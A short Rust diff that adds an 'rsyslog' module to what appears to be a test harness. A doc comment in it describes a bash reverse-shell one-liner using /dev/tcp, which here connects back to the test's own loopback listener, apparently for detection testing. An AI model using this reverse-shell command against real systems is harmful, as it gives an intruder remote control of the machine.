@@ -26,6 +26,7 @@ pub const LINE_TIMEOUT: Duration = Duration::from_secs(20);
 
 pub mod collector;
 pub mod postgres;
+pub mod rsyslog;
 
 /// `bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1 # TAG` connected back to a loopback listener
 /// of the test: the shell (its descriptors 0-2 are the socket) and the accepted end.
